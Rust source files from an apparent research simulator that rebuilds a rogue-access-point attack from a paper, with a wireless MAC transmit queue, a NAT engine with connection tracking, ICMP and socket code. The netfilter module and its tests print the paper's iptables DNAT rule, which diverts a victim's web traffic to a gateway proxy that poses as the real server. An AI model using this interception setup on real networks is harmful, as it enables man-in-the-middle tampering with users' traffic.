    needs_ack: bool,
}

struct Inflight {
    frame: Frame,
    bitrate: Bitrate,
    ack_deadline: SimTime,
    retries: u8,
    cw: u32,
}

/// Transmit queue for one MAC entity.
pub struct TxQueue {
    queue: VecDeque<Pending>,
    inflight: Option<Inflight>,
    /// Earliest instant the next queued frame may start.
    next_attempt: SimTime,
    /// Radio considered busy with our own transmissions until here.
    busy_until: SimTime,
    rng: SimRng,
    seq: u16,
    /// Frames dropped after exhausting retries.
    pub drops: u64,
}

impl TxQueue {
    /// New queue driven by the given RNG stream.
    pub fn new(rng: SimRng) -> TxQueue {
        TxQueue {
            queue: VecDeque::new(),
            inflight: None,
            next_attempt: SimTime::ZERO,
            busy_until: SimTime::ZERO,
            rng,
            seq: 0,
            drops: 0,
        }
    }

    /// Enqueue a frame. Sequence number is assigned here; `needs_ack`
    /// should be true for unicast management/data frames.
    pub fn push(&mut self, now: SimTime, mut frame: Frame, bitrate: Bitrate, needs_ack: bool) {
        frame.seq = self.seq;
        self.seq = (self.seq + 1) & 0x0FFF;
        self.queue.push_back(Pending {
            frame,
            bitrate,
            needs_ack,
        });
        if self.queue.len() == 1 && self.inflight.is_none() {
            self.arm_backoff(now, CW_MIN);
        }
    }

    /// Send an ACK immediately (SIFS, no backoff, no queue) — ACKs jump
    /// the queue by design.
    pub fn emit_ack(&self, _now: SimTime, ra: MacAddr, out: &mut Vec<MacOutput>) {
        out.push(MacOutput::Tx {
            bytes: Frame::ack(ra).encode(),
            bitrate: Bitrate::B1,
        });
    }

    /// Note a received ACK addressed to us.
    pub fn on_ack(&mut self, now: SimTime) {
        if self.inflight.take().is_some() {
            self.arm_backoff(now, CW_MIN);
        }
    }

    /// Drop all queued and in-flight frames (used when a station leaves a
    /// BSS: stale traffic must not chase the old AP).
    pub fn flush(&mut self) {
        self.queue.clear();
        self.inflight = None;
    }

    /// Earliest instant this queue needs a poll.
    pub fn next_wake(&self) -> SimTime {
        if let Some(inf) = &self.inflight {
            return inf.ack_deadline;
        }
        if !self.queue.is_empty() {
            return self.next_attempt.max(self.busy_until);
        }
        SimTime::FOREVER
    }

    /// Drive the queue; emits transmissions and failure events.
    pub fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        // Retry / give up on the in-flight frame.
        if let Some(inf) = &mut self.inflight {
            if now >= inf.ack_deadline {
                if inf.retries >= RETRY_LIMIT {
                    let dst = inf.frame.addr1;
                    self.inflight = None;
                    self.drops += 1;
                    out.push(MacOutput::Event(MacEvent::TxFailed { dst }));
                    self.arm_backoff(now, CW_MIN);
                } else {
                    inf.retries += 1;
                    inf.cw = (inf.cw * 2 + 1).min(CW_MAX);
                    inf.frame.retry = true;
                    let backoff = DIFS + SLOT.saturating_mul(self.rng.below(inf.cw as u64 + 1));
                    let start = now + backoff;
                    let end = start + inf.bitrate.airtime(frame_len(&inf.frame));
                    inf.ack_deadline = end + SIFS + ack_airtime() + SimDuration::from_micros(60);
                    out.push(MacOutput::Tx {
                        bytes: inf.frame.encode(),
                        bitrate: inf.bitrate,
                    });
                    self.busy_until = end;
                }
            }
            // While a frame is in flight we send nothing else.
            if self.inflight.is_some() {
                return;
            }
        }

        // Start the next queued frame (one per poll; the world re-polls
        // at next_wake for the rest).
        if now >= self.next_attempt.max(self.busy_until) {
            if let Some(p) = self.queue.pop_front() {
                let airtime = p.bitrate.airtime(frame_len(&p.frame));
                let end = now + airtime;
                out.push(MacOutput::Tx {
                    bytes: p.frame.encode(),
                    bitrate: p.bitrate,
                });
                self.busy_until = end;
                if p.needs_ack {
                    self.inflight = Some(Inflight {
                        frame: p.frame,
                        bitrate: p.bitrate,
                        ack_deadline: end + SIFS + ack_airtime() + SimDuration::from_micros(60),
                        retries: 0,
                        cw: CW_MIN,
                    });
                } else {
                    self.arm_backoff(end, CW_MIN);
                }
            }
        }
    }

    fn arm_backoff(&mut self, now: SimTime, cw: u32) {
        let slots = self.rng.below(cw as u64 + 1);
        self.next_attempt = now + DIFS + SLOT.saturating_mul(slots);
    }
}

/// Encoded length of a frame (header + body + FCS) — used for airtime
/// estimates without double-encoding.
fn frame_len(frame: &Frame) -> usize {
    // Encoding is cheap relative to simulation bookkeeping; reuse it.
    match frame.body {
        FrameBody::Ack => 14,
        _ => frame.encode().len(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::FrameBody;
    use rogue_sim::Seed;

    fn frame(dst: MacAddr) -> Frame {
        Frame::new(
            dst,
            MacAddr::local(1),
            MacAddr::local(9),
            FrameBody::Deauth { reason: 1 },
        )
    }

    fn drain(q: &mut TxQueue, now: SimTime) -> Vec<MacOutput> {
        let mut out = Vec::new();
        q.poll(now, &mut out);
        out
    }

    #[test]
    fn assigns_monotonic_seq() {
        let mut q = TxQueue::new(SimRng::new(Seed(1)));
        let now = SimTime::ZERO;
        q.push(now, frame(MacAddr::local(2)), Bitrate::B1, false);
        q.push(now, frame(MacAddr::local(2)), Bitrate::B1, false);
        let wake = q.next_wake();
        assert!(wake > now);
        let out = drain(&mut q, wake);
        let tx = out
            .iter()
            .filter_map(|o| match o {
                MacOutput::Tx { bytes, .. } => Some(Frame::decode(bytes).unwrap()),
                _ => None,
            })
            .collect::<Vec<_>>();
        assert_eq!(tx.len(), 1);
        assert_eq!(tx[0].seq, 0);
        // Second frame comes on a later poll.
        let wake2 = q.next_wake();
        assert!(wake2 > wake);
        let out2 = drain(&mut q, wake2);
        let f2 = out2
            .iter()
            .find_map(|o| match o {
                MacOutput::Tx { bytes, .. } => Some(Frame::decode(bytes).unwrap()),
                _ => None,
            })
            .unwrap();
        assert_eq!(f2.seq, 1);
    }

    #[test]
    fn acked_frame_clears_inflight() {
        let mut q = TxQueue::new(SimRng::new(Seed(2)));
        q.push(SimTime::ZERO, frame(MacAddr::local(2)), Bitrate::B1, true);
        let wake = q.next_wake();
        let out = drain(&mut q, wake);
        assert!(matches!(out[0], MacOutput::Tx { .. }));
        // ACK arrives before the deadline.
        q.on_ack(wake + SimDuration::from_micros(500));
        // No retry should be pending.
        let mut out2 = Vec::new();
        q.poll(q.next_wake().min(SimTime::from_secs(10)), &mut out2);
        assert!(out2.is_empty());
    }

    #[test]
    fn unacked_frame_retries_then_drops() {
        let mut q = TxQueue::new(SimRng::new(Seed(3)));
        q.push(SimTime::ZERO, frame(MacAddr::local(2)), Bitrate::B1, true);
        let mut txs = 0;
        let mut failed = false;
        let mut now = q.next_wake();
        for _ in 0..64 {
            if now == SimTime::FOREVER {
                break;
            }
            let out = drain(&mut q, now);
            for o in &out {
                match o {
                    MacOutput::Tx { bytes, .. } => {
                        let f = Frame::decode(bytes).unwrap();
                        if txs > 0 {
                            assert!(f.retry, "retransmissions set the retry flag");
                            assert_eq!(f.seq, 0, "retries keep the sequence number");
                        }
                        txs += 1;
                    }
                    MacOutput::Event(MacEvent::TxFailed { .. }) => failed = true,
                    _ => {}
                }
            }
            now = q.next_wake();
        }
        assert_eq!(txs, 1 + RETRY_LIMIT as usize, "initial + retries");
        assert!(failed, "TxFailed after retry limit");
        assert_eq!(q.drops, 1);
    }

    #[test]
    fn flush_discards_pending() {
        let mut q = TxQueue::new(SimRng::new(Seed(4)));
        q.push(SimTime::ZERO, frame(MacAddr::local(2)), Bitrate::B1, true);
        q.push(SimTime::ZERO, frame(MacAddr::local(3)), Bitrate::B1, true);
        q.flush();
        assert_eq!(q.next_wake(), SimTime::FOREVER);
    }

    #[test]
    fn backoff_randomises_start() {
        let w1 = {
            let mut q = TxQueue::new(SimRng::new(Seed(5)));
            q.push(SimTime::ZERO, frame(MacAddr::local(2)), Bitrate::B1, false);
            q.next_wake()
        };
        let w2 = {
            let mut q = TxQueue::new(SimRng::new(Seed(99)));
            q.push(SimTime::ZERO, frame(MacAddr::local(2)), Bitrate::B1, false);
            q.next_wake()
        };
        assert!(w1 >= SimTime::ZERO + DIFS);
        assert!(w2 >= SimTime::ZERO + DIFS);
        assert_ne!(w1, w2, "different seeds, different backoff");
    }
}
