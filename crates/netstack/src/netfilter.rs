//! A netfilter-style NAT engine: PREROUTING DNAT/REDIRECT, POSTROUTING
//! SNAT/MASQUERADE, and a connection-tracking table so reply traffic is
//! rewritten back transparently.
//!
//! The paper's attack uses exactly one rule:
//!
//! ```text
//! iptables -t nat -A PREROUTING -p tcp -d TargetIP --dport 80 \
//!          -j DNAT --to GatewayIP:10101
//! ```
//!
//! [`Netfilter::add_dnat`] is that rule. Conntrack then makes the
//! gateway's local netsed socket answer *as if it were the target web
//! server*: replies from `GatewayIP:10101` are source-rewritten back to
//! `TargetIP:80` on the way out, so the victim never sees the gateway in
//! its TCP endpoints.
//!
//! Scope: TCP and UDP only (ICMP is passed through untranslated — the
//! reproduced experiments never NAT ping traffic).

use std::collections::HashMap;

use crate::ip::Ipv4Packet;
use crate::routing::IfIndex;
use crate::tcp::TcpSegment;
use crate::udp::UdpDatagram;
use crate::{proto, Ipv4Addr};

/// Flow tuple: (proto, src ip, src port, dst ip, dst port).
pub type Tuple = (u8, Ipv4Addr, u16, Ipv4Addr, u16);

/// A destination-NAT rule (PREROUTING).
#[derive(Clone, Debug)]
pub struct DnatRule {
    /// Match protocol (None = any of TCP/UDP).
    pub proto: Option<u8>,
    /// Match destination address.
    pub dst: Option<Ipv4Addr>,
    /// Match destination port.
    pub dport: Option<u16>,
    /// Rewrite destination to this (ip, port).
    pub to: (Ipv4Addr, u16),
}

/// A source-NAT rule (POSTROUTING).
#[derive(Clone, Debug)]
pub struct SnatRule {
    /// Match egress interface.
    pub out_ifindex: IfIndex,
    /// Match source subnet (the `-s 10.8.0.0/24` of a classic VPN
    /// masquerade — without it the rule would also rewrite the host's
    /// own locally-originated traffic).
    pub src_net: Option<(Ipv4Addr, u8)>,
    /// Rewrite source to this address (MASQUERADE uses the egress
    /// interface address, filled by the host at apply time).
    pub to_ip: Option<Ipv4Addr>,
}

#[derive(Clone, Copy, Debug)]
enum Rewrite {
    Dst(Ipv4Addr, u16),
    Src(Ipv4Addr, u16),
}

/// The NAT engine state for one host.
#[derive(Default)]
pub struct Netfilter {
    dnat_rules: Vec<DnatRule>,
    snat_rules: Vec<SnatRule>,
    /// Applied at PREROUTING (forward DNAT + reply un-SNAT).
    pre_map: HashMap<Tuple, Rewrite>,
    /// Applied at POSTROUTING (forward SNAT + reply un-DNAT).
    post_map: HashMap<Tuple, Rewrite>,
    next_masq_port: u16,
    /// Packets whose destination was rewritten.
    pub dnat_hits: u64,
    /// Packets whose source was rewritten.
    pub snat_hits: u64,
}

/// Transport endpoints of a packet, if it is TCP or UDP with a valid
/// checksum. (NAT refuses to touch anything it cannot re-checksum.)
fn endpoints(pkt: &Ipv4Packet) -> Option<(u16, u16)> {
    match pkt.protocol {
        proto::TCP => {
            TcpSegment::decode(pkt.src, pkt.dst, &pkt.payload).map(|s| (s.src_port, s.dst_port))
        }
        proto::UDP => {
            UdpDatagram::decode(pkt.src, pkt.dst, &pkt.payload).map(|d| (d.src_port, d.dst_port))
        }
        _ => None,
    }
}

/// Re-encode the transport payload after address/port rewriting.
fn rebuild(pkt: &mut Ipv4Packet, new_src: (Ipv4Addr, u16), new_dst: (Ipv4Addr, u16)) {
    match pkt.protocol {
        proto::TCP => {
            let mut seg =
                TcpSegment::decode(pkt.src, pkt.dst, &pkt.payload).expect("caller validated");
            seg.src_port = new_src.1;
            seg.dst_port = new_dst.1;
            pkt.src = new_src.0;
            pkt.dst = new_dst.0;
            pkt.payload = seg.encode(pkt.src, pkt.dst);
        }
        proto::UDP => {
            let mut dg =
                UdpDatagram::decode(pkt.src, pkt.dst, &pkt.payload).expect("caller validated");
            dg.src_port = new_src.1;
            dg.dst_port = new_dst.1;
            pkt.src = new_src.0;
            pkt.dst = new_dst.0;
            pkt.payload = dg.encode(pkt.src, pkt.dst);
        }
        _ => unreachable!("endpoints() gated"),
    }
}

impl Netfilter {
    /// Empty tables.
    pub fn new() -> Netfilter {
        Netfilter {
            next_masq_port: 20_000,
            ..Netfilter::default()
        }
    }

    /// Append a DNAT rule (the paper's `iptables -t nat -A PREROUTING …`).
    pub fn add_dnat(&mut self, rule: DnatRule) {
        self.dnat_rules.push(rule);
    }

    /// Append a SNAT/MASQUERADE rule.
    pub fn add_snat(&mut self, rule: SnatRule) {
        self.snat_rules.push(rule);
    }

    /// True if any NAT rules are configured.
    pub fn is_active(&self) -> bool {
        !self.dnat_rules.is_empty() || !self.snat_rules.is_empty() || !self.pre_map.is_empty()
    }

    /// PREROUTING hook: may rewrite the packet's destination (DNAT) or
    /// undo an earlier SNAT for reply traffic.
    pub fn prerouting(&mut self, pkt: &mut Ipv4Packet) {
        let Some((sport, dport)) = endpoints(pkt) else {
            return;
        };
        let key: Tuple = (pkt.protocol, pkt.src, sport, pkt.dst, dport);

        // Established flow?
        if let Some(rw) = self.pre_map.get(&key).copied() {
            self.apply(pkt, sport, dport, rw);
            return;
        }
        // New flow: first matching DNAT rule wins.
        let matched = self.dnat_rules.iter().find(|r| {
            r.proto.is_none_or(|p| p == pkt.protocol)
                && r.dst.is_none_or(|d| d == pkt.dst)
                && r.dport.is_none_or(|p| p == dport)
        });
        if let Some(rule) = matched {
            let to = rule.to;
            // Forward direction: rewrite dst.
            self.pre_map.insert(key, Rewrite::Dst(to.0, to.1));
            // Reply direction: packets from `to` back to the client get
            // their source rewritten to the original destination.
            let reply_key: Tuple = (pkt.protocol, to.0, to.1, pkt.src, sport);
            self.post_map
                .insert(reply_key, Rewrite::Src(pkt.dst, dport));
            self.apply(pkt, sport, dport, Rewrite::Dst(to.0, to.1));
        }
    }

    /// POSTROUTING hook: may rewrite the packet's source (SNAT /
    /// masquerade) or undo an earlier DNAT for reply traffic.
    /// `out_ifindex` and `out_ip` describe the egress interface.
    pub fn postrouting(&mut self, pkt: &mut Ipv4Packet, out_ifindex: IfIndex, out_ip: Ipv4Addr) {
        let Some((sport, dport)) = endpoints(pkt) else {
            return;
        };
        let key: Tuple = (pkt.protocol, pkt.src, sport, pkt.dst, dport);

        if let Some(rw) = self.post_map.get(&key).copied() {
            self.apply(pkt, sport, dport, rw);
            return;
        }
        let matched = self.snat_rules.iter().find(|r| {
            r.out_ifindex == out_ifindex
                && r.src_net
                    .is_none_or(|(net, plen)| crate::ip::in_subnet(pkt.src, net, plen))
        });
        if let Some(rule) = matched {
            let new_ip = rule.to_ip.unwrap_or(out_ip);
            let new_port = self.alloc_port();
            self.post_map.insert(key, Rewrite::Src(new_ip, new_port));
            // Reply direction: packets to (new_ip, new_port) get their
            // destination restored.
            let reply_key: Tuple = (pkt.protocol, pkt.dst, dport, new_ip, new_port);
            self.pre_map.insert(reply_key, Rewrite::Dst(pkt.src, sport));
            self.apply(pkt, sport, dport, Rewrite::Src(new_ip, new_port));
        }
    }

    fn alloc_port(&mut self) -> u16 {
        let p = self.next_masq_port;
        self.next_masq_port = self.next_masq_port.wrapping_add(1).max(20_000);
        p
    }

    fn apply(&mut self, pkt: &mut Ipv4Packet, sport: u16, dport: u16, rw: Rewrite) {
        match rw {
            Rewrite::Dst(ip, port) => {
                self.dnat_hits += 1;
                rebuild(pkt, (pkt.src, sport), (ip, port));
            }
            Rewrite::Src(ip, port) => {
                self.snat_hits += 1;
                rebuild(pkt, (ip, port), (pkt.dst, dport));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tcp::flags;
    use bytes::Bytes;

    fn tcp_packet(
        src: Ipv4Addr,
        sport: u16,
        dst: Ipv4Addr,
        dport: u16,
        payload: &'static [u8],
    ) -> Ipv4Packet {
        let seg = TcpSegment {
            src_port: sport,
            dst_port: dport,
            seq: 1,
            ack: 0,
            flags: flags::ACK,
            window: 1000,
            payload: Bytes::from_static(payload),
        };
        Ipv4Packet::new(src, dst, proto::TCP, seg.encode(src, dst))
    }

    const CLIENT: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 10);
    const TARGET: Ipv4Addr = Ipv4Addr::new(10, 9, 9, 9);
    const GATEWAY: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 1);

    fn papers_rule() -> Netfilter {
        // iptables -t nat -A PREROUTING -p tcp -d Target --dport 80
        //          -j DNAT --to Gateway:10101
        let mut nf = Netfilter::new();
        nf.add_dnat(DnatRule {
            proto: Some(proto::TCP),
            dst: Some(TARGET),
            dport: Some(80),
            to: (GATEWAY, 10101),
        });
        nf
    }

    #[test]
    fn dnat_rewrites_and_checksums_stay_valid() {
        let mut nf = papers_rule();
        let mut pkt = tcp_packet(CLIENT, 4321, TARGET, 80, b"GET /");
        nf.prerouting(&mut pkt);
        assert_eq!(pkt.dst, GATEWAY);
        let seg = TcpSegment::decode(pkt.src, pkt.dst, &pkt.payload).expect("valid checksum");
        assert_eq!(seg.dst_port, 10101);
        assert_eq!(&seg.payload[..], b"GET /");
        assert_eq!(nf.dnat_hits, 1);
    }

    #[test]
    fn reply_is_source_rewritten_back() {
        let mut nf = papers_rule();
        let mut fwd = tcp_packet(CLIENT, 4321, TARGET, 80, b"GET /");
        nf.prerouting(&mut fwd);

        // Gateway's local proxy answers from (GATEWAY, 10101).
        let mut reply = tcp_packet(GATEWAY, 10101, CLIENT, 4321, b"HTTP/1.0 200 OK");
        nf.postrouting(&mut reply, 0, GATEWAY);
        // The victim sees the reply as coming from the real target.
        assert_eq!(reply.src, TARGET);
        let seg = TcpSegment::decode(reply.src, reply.dst, &reply.payload).unwrap();
        assert_eq!(seg.src_port, 80);
    }

    #[test]
    fn unrelated_traffic_untouched() {
        let mut nf = papers_rule();
        // Different destination port.
        let mut pkt = tcp_packet(CLIENT, 4321, TARGET, 443, b"TLS");
        nf.prerouting(&mut pkt);
        assert_eq!(pkt.dst, TARGET);
        // Different destination host.
        let other = Ipv4Addr::new(10, 8, 8, 8);
        let mut pkt = tcp_packet(CLIENT, 4321, other, 80, b"GET /");
        nf.prerouting(&mut pkt);
        assert_eq!(pkt.dst, other);
        assert_eq!(nf.dnat_hits, 0);
    }

    #[test]
    fn conntrack_is_per_flow() {
        let mut nf = papers_rule();
        let mut a = tcp_packet(CLIENT, 1111, TARGET, 80, b"a");
        let mut b = tcp_packet(CLIENT, 2222, TARGET, 80, b"b");
        nf.prerouting(&mut a);
        nf.prerouting(&mut b);
        // Replies routed by their own tuples.
        let mut ra = tcp_packet(GATEWAY, 10101, CLIENT, 1111, b"ra");
        let mut rb = tcp_packet(GATEWAY, 10101, CLIENT, 2222, b"rb");
        nf.postrouting(&mut ra, 0, GATEWAY);
        nf.postrouting(&mut rb, 0, GATEWAY);
        assert_eq!(ra.src, TARGET);
        assert_eq!(rb.src, TARGET);
    }

    #[test]
    fn masquerade_allocates_distinct_ports_and_reverses() {
        let wan = 1usize;
        let mut nf = Netfilter::new();
        nf.add_snat(SnatRule {
            out_ifindex: wan,
            src_net: None,
            to_ip: None,
        });
        let gw_wan_ip = Ipv4Addr::new(203, 0, 113, 5);
        let server = Ipv4Addr::new(198, 51, 100, 7);

        let mut a = tcp_packet(CLIENT, 1111, server, 80, b"a");
        let mut b = tcp_packet(Ipv4Addr::new(192, 168, 0, 11), 1111, server, 80, b"b");
        nf.postrouting(&mut a, wan, gw_wan_ip);
        nf.postrouting(&mut b, wan, gw_wan_ip);
        assert_eq!(a.src, gw_wan_ip);
        assert_eq!(b.src, gw_wan_ip);
        let sa = TcpSegment::decode(a.src, a.dst, &a.payload).unwrap();
        let sb = TcpSegment::decode(b.src, b.dst, &b.payload).unwrap();
        assert_ne!(sa.src_port, sb.src_port, "distinct NAT ports");

        // Reply to the first client.
        let mut r = tcp_packet(server, 80, gw_wan_ip, sa.src_port, b"r");
        nf.prerouting(&mut r);
        assert_eq!(r.dst, CLIENT);
        let sr = TcpSegment::decode(r.src, r.dst, &r.payload).unwrap();
        assert_eq!(sr.dst_port, 1111);
    }

    #[test]
    fn snat_only_on_matching_interface() {
        let mut nf = Netfilter::new();
        nf.add_snat(SnatRule {
            out_ifindex: 1,
            src_net: None,
            to_ip: None,
        });
        let mut pkt = tcp_packet(CLIENT, 1111, TARGET, 80, b"x");
        nf.postrouting(&mut pkt, 0, GATEWAY); // different iface
        assert_eq!(pkt.src, CLIENT);
    }

    #[test]
    fn udp_is_translated_too() {
        let mut nf = Netfilter::new();
        nf.add_dnat(DnatRule {
            proto: Some(proto::UDP),
            dst: Some(TARGET),
            dport: Some(53),
            to: (GATEWAY, 5353),
        });
        let dg = UdpDatagram::new(9999, 53, Bytes::from_static(b"query"));
        let mut pkt = Ipv4Packet::new(CLIENT, TARGET, proto::UDP, dg.encode(CLIENT, TARGET));
        nf.prerouting(&mut pkt);
        assert_eq!(pkt.dst, GATEWAY);
        let out = UdpDatagram::decode(pkt.src, pkt.dst, &pkt.payload).expect("valid checksum");
        assert_eq!(out.dst_port, 5353);
    }

    #[test]
    fn non_transport_protocols_pass_through() {
        let mut nf = papers_rule();
        let mut pkt = Ipv4Packet::new(CLIENT, TARGET, proto::ICMP, Bytes::from_static(b"ping"));
        nf.prerouting(&mut pkt);
        assert_eq!(pkt.dst, TARGET);
    }
}
