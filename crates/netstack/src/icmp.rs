//! ICMP: echo (ping) and the error messages a router needs.

use bytes::{BufMut, Bytes, BytesMut};

use crate::ip::checksum;

/// Parsed ICMP message (the subset the stack uses).
#[derive(Clone, Debug, PartialEq)]
pub enum IcmpMessage {
    /// Echo request.
    EchoRequest {
        /// Identifier (per ping session).
        ident: u16,
        /// Sequence number.
        seq: u16,
        /// Payload echoed back.
        payload: Bytes,
    },
    /// Echo reply.
    EchoReply {
        /// Identifier.
        ident: u16,
        /// Sequence number.
        seq: u16,
        /// Echoed payload.
        payload: Bytes,
    },
    /// Destination unreachable; carries the offending IP header + 8 bytes.
    DestUnreachable {
        /// Code (0 net, 1 host, 3 port).
        code: u8,
        /// Quoted original datagram prefix.
        original: Bytes,
    },
    /// TTL exceeded in transit.
    TimeExceeded {
        /// Quoted original datagram prefix.
        original: Bytes,
    },
}

impl IcmpMessage {
    /// Serialize with checksum.
    pub fn encode(&self) -> Bytes {
        let mut buf = BytesMut::with_capacity(32);
        match self {
            IcmpMessage::EchoRequest {
                ident,
                seq,
                payload,
            } => {
                buf.put_u8(8);
                buf.put_u8(0);
                buf.put_u16(0);
                buf.put_u16(*ident);
                buf.put_u16(*seq);
                buf.put_slice(payload);
            }
            IcmpMessage::EchoReply {
                ident,
                seq,
                payload,
            } => {
                buf.put_u8(0);
                buf.put_u8(0);
                buf.put_u16(0);
                buf.put_u16(*ident);
                buf.put_u16(*seq);
                buf.put_slice(payload);
            }
            IcmpMessage::DestUnreachable { code, original } => {
                buf.put_u8(3);
                buf.put_u8(*code);
                buf.put_u16(0);
                buf.put_u32(0);
                buf.put_slice(original);
            }
            IcmpMessage::TimeExceeded { original } => {
                buf.put_u8(11);
                buf.put_u8(0);
                buf.put_u16(0);
                buf.put_u32(0);
                buf.put_slice(original);
            }
        }
        let csum = checksum(&buf);
        buf[2..4].copy_from_slice(&csum.to_be_bytes());
        buf.freeze()
    }

    /// Parse and validate the checksum; the payload is a zero-copy view
    /// of `bytes`.
    pub fn decode(bytes: &Bytes) -> Option<IcmpMessage> {
        if bytes.len() < 8 || checksum(bytes) != 0 {
            return None;
        }
        let payload = bytes.slice(8..);
        match (bytes[0], bytes[1]) {
            (8, 0) => Some(IcmpMessage::EchoRequest {
                ident: u16::from_be_bytes([bytes[4], bytes[5]]),
                seq: u16::from_be_bytes([bytes[6], bytes[7]]),
                payload,
            }),
            (0, 0) => Some(IcmpMessage::EchoReply {
                ident: u16::from_be_bytes([bytes[4], bytes[5]]),
                seq: u16::from_be_bytes([bytes[6], bytes[7]]),
                payload,
            }),
            (3, code) => Some(IcmpMessage::DestUnreachable {
                code,
                original: payload,
            }),
            (11, 0) => Some(IcmpMessage::TimeExceeded { original: payload }),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn echo_roundtrip() {
        let m = IcmpMessage::EchoRequest {
            ident: 0x1234,
            seq: 7,
            payload: Bytes::from_static(b"abcdefgh"),
        };
        assert_eq!(IcmpMessage::decode(&m.encode()).unwrap(), m);
        let r = IcmpMessage::EchoReply {
            ident: 0x1234,
            seq: 7,
            payload: Bytes::from_static(b"abcdefgh"),
        };
        assert_eq!(IcmpMessage::decode(&r.encode()).unwrap(), r);
    }

    #[test]
    fn errors_roundtrip() {
        let m = IcmpMessage::DestUnreachable {
            code: 3,
            original: Bytes::from_static(b"original header bytes heremore"),
        };
        assert_eq!(IcmpMessage::decode(&m.encode()).unwrap(), m);
        let m = IcmpMessage::TimeExceeded {
            original: Bytes::from_static(b"original"),
        };
        assert_eq!(IcmpMessage::decode(&m.encode()).unwrap(), m);
    }

    #[test]
    fn corrupt_checksum_rejected() {
        let m = IcmpMessage::EchoRequest {
            ident: 1,
            seq: 1,
            payload: Bytes::from_static(b"x!"),
        };
        let mut bytes = m.encode().to_vec();
        bytes[9] ^= 0x40;
        assert!(IcmpMessage::decode(&bytes.into()).is_none());
    }
}
