//! Socket handles and the per-host socket table.

use std::collections::VecDeque;

use bytes::Bytes;

use crate::tcp::TcpConnection;
use crate::Ipv4Addr;

/// Opaque reference to a socket owned by a [`crate::Host`].
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub struct SocketHandle(pub u64);

/// A socket.
///
/// (The `Tcp` variant is much larger than the others; hosts hold a
/// handful of sockets, so boxing would buy nothing but indirection.)
#[allow(clippy::large_enum_variant)]
pub enum Socket {
    /// Passive TCP listener.
    TcpListener {
        /// Bound port.
        port: u16,
        /// Accepted-but-not-yet-claimed connections.
        backlog: VecDeque<SocketHandle>,
    },
    /// TCP connection endpoint.
    Tcp(TcpConnection),
    /// UDP endpoint.
    Udp {
        /// Bound port.
        port: u16,
        /// Received datagrams: (src ip, src port, payload).
        rx: VecDeque<(Ipv4Addr, u16, Bytes)>,
    },
}

/// The socket table.
#[derive(Default)]
pub struct SocketSet {
    entries: Vec<(SocketHandle, Socket)>,
    next_id: u64,
}

impl SocketSet {
    /// Empty table.
    pub fn new() -> SocketSet {
        SocketSet::default()
    }

    /// Insert a socket, returning its handle.
    pub fn insert(&mut self, socket: Socket) -> SocketHandle {
        let h = SocketHandle(self.next_id);
        self.next_id += 1;
        self.entries.push((h, socket));
        h
    }

    /// Borrow a socket.
    pub fn get(&self, h: SocketHandle) -> Option<&Socket> {
        self.entries.iter().find(|(k, _)| *k == h).map(|(_, s)| s)
    }

    /// Borrow a socket mutably.
    pub fn get_mut(&mut self, h: SocketHandle) -> Option<&mut Socket> {
        self.entries
            .iter_mut()
            .find(|(k, _)| *k == h)
            .map(|(_, s)| s)
    }

    /// Remove a socket.
    pub fn remove(&mut self, h: SocketHandle) -> Option<Socket> {
        let idx = self.entries.iter().position(|(k, _)| *k == h)?;
        Some(self.entries.remove(idx).1)
    }

    /// Iterate over all sockets.
    pub fn iter_mut(&mut self) -> impl Iterator<Item = (SocketHandle, &mut Socket)> {
        self.entries.iter_mut().map(|(h, s)| (*h, s))
    }

    /// Iterate immutably.
    pub fn iter(&self) -> impl Iterator<Item = (SocketHandle, &Socket)> {
        self.entries.iter().map(|(h, s)| (*h, s))
    }

    /// Number of sockets.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True when no sockets exist.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn insert_get_remove() {
        let mut set = SocketSet::new();
        let h = set.insert(Socket::Udp {
            port: 53,
            rx: VecDeque::new(),
        });
        assert!(matches!(set.get(h), Some(Socket::Udp { port: 53, .. })));
        assert_eq!(set.len(), 1);
        assert!(set.remove(h).is_some());
        assert!(set.get(h).is_none());
        assert!(set.is_empty());
    }

    #[test]
    fn handles_are_unique_across_removal() {
        let mut set = SocketSet::new();
        let a = set.insert(Socket::Udp {
            port: 1,
            rx: VecDeque::new(),
        });
        set.remove(a);
        let b = set.insert(Socket::Udp {
            port: 2,
            rx: VecDeque::new(),
        });
        assert_ne!(a, b);
    }
}
