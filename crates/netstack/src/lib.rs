//! # rogue-netstack — a miniature TCP/IP stack
//!
//! The paper's gateway machine is an ordinary Linux router: two interfaces,
//! `ip_forward=1`, a proxy-ARP bridge and one `iptables -t nat` rule. To
//! reproduce the data path honestly we implement the substrate itself:
//!
//! * [`ethernet`] — Ethernet II framing,
//! * [`arp`] — ARP requests/replies, cache, and the *proxy-ARP answering
//!   mode* `parprouted` relies on,
//! * [`ip`] — IPv4 headers with real checksums,
//! * [`icmp`] — echo and error messages,
//! * [`udp`] / [`tcp`] — transport; TCP is a real stop-and-go stack with
//!   sequence space, RTO, fast retransmit and congestion control, because
//!   experiment E2 depends on genuine *segment boundaries* (netsed cannot
//!   match across them) and E5 on genuine retransmission dynamics,
//! * [`routing`] — longest-prefix-match routing with host routes,
//! * [`netfilter`] — PREROUTING/POSTROUTING hooks with DNAT/REDIRECT/
//!   MASQUERADE and a connection-tracking table (the paper's
//!   `iptables … -j DNAT --to Gateway-IP:10101` is one rule here),
//! * [`socket`] + [`host`] — a poll-driven host binding it all together.
//!
//! Frames are real byte buffers end to end; a sniffer on the wire sees
//! exactly what the stack sent.

pub mod arp;
pub mod ethernet;
pub mod host;
pub mod icmp;
pub mod ip;
pub mod netfilter;
pub mod routing;
pub mod socket;
pub mod tcp;
pub mod udp;

pub use host::{Host, HostEvent, IfIndex};
pub use socket::SocketHandle;

/// Convenience alias used throughout.
pub type Ipv4Addr = std::net::Ipv4Addr;

/// IP protocol numbers used by the stack.
pub mod proto {
    /// ICMP.
    pub const ICMP: u8 = 1;
    /// TCP.
    pub const TCP: u8 = 6;
    /// UDP.
    pub const UDP: u8 = 17;
}
