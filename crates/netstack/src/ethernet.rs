//! Ethernet II framing.
//!
